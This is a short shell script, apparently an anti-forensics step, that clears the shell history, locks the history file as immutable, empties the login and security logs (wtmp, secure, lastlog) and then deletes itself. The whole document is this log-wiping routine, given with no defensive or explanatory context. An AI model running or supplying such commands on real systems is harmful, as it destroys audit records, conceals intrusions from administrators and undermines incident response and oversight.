history -c
chattr +i ~/.bash_history
cat /dev/null > /var/log/wtmp
echo > /var/log/secure
> /var/log/lastlog
rm -f $0
